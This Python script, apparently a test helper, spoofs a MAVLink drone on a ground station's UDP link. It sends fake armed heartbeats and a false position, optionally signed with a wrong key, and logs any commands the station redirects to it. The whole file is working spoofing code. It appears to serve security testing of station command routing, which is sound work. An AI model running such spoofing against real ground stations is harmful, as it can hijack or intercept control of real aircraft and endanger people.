#!/usr/bin/env python3
"""A spoofer written with pymavlink: on the station's own UDP port, it claims a vehicle's system
id with autopilot heartbeats and a false position, unsigned or signed with a key that is not the
vehicle's. It reports what the station sends it, so a test can see whether the command route
moved to it.

Usage: link_spoofer.py --connect udpout:127.0.0.1:PORT [--sysid N] [--rate HZ] [--wrong-key HEX]
       [--lat DEG --lon DEG] [--duration S]
"""

import argparse
import json
import os
import sys
import time

os.environ.setdefault("MAVLINK20", "1")
from pymavlink import mavutil  # noqa: E402
from pymavlink.dialects.v20 import ardupilotmega as mav  # noqa: E402


def say(**event):
    print(json.dumps(event), flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--connect", required=True)
    ap.add_argument("--sysid", type=int, default=1)
    ap.add_argument("--rate", type=float, default=20.0, help="heartbeat + position pairs per second")
    ap.add_argument("--wrong-key", help="sign with this key (not the vehicle's)")
    ap.add_argument("--lat", type=float, default=10.0)
    ap.add_argument("--lon", type=float, default=10.0)
    ap.add_argument("--duration", type=float, default=600.0)
    args = ap.parse_args()

    m = mavutil.mavlink_connection(args.connect, source_system=args.sysid, source_component=1,
                                   dialect="ardupilotmega")
    m.mav.robust_parsing = True
    if args.wrong_key:
        m.setup_signing(bytes.fromhex(args.wrong_key), sign_outgoing=True,
                        allow_unsigned_callback=lambda _m, _i: True, link_id=0)
    period = 1.0 / args.rate
    start = time.time()
    nxt = start
    sent = 0
    commands = 0
    say(event="started")
    while time.time() - start < args.duration:
        now = time.time()
        if now >= nxt:
            nxt += period
            m.mav.heartbeat_send(mav.MAV_TYPE_QUADROTOR, mav.MAV_AUTOPILOT_ARDUPILOTMEGA,
                                 mav.MAV_MODE_FLAG_CUSTOM_MODE_ENABLED | mav.MAV_MODE_FLAG_SAFETY_ARMED,
                                 4, mav.MAV_STATE_ACTIVE)
            m.mav.global_position_int_send(int((now - start) * 1000) & 0xFFFFFFFF, int(args.lat * 1e7),
                                           int(args.lon * 1e7), 500000, 480000, 0, 0, 0, 0)
            sent += 2
            if sent % 100 == 0:
                say(event="sent", frames=sent)
        msg = m.recv_match(blocking=True, timeout=0.005)
        if msg is None:
            continue
        t = msg.get_type()
        if t in ("COMMAND_LONG", "COMMAND_INT"):
            commands += 1
            say(event="command", command=msg.command, count=commands)
        elif t == "HEARTBEAT" and msg.get_srcSystem() == 255:
            say(event="gcs_heartbeat")
    say(event="finished", sent=sent, commands=commands)


if __name__ == "__main__":
    sys.exit(main())
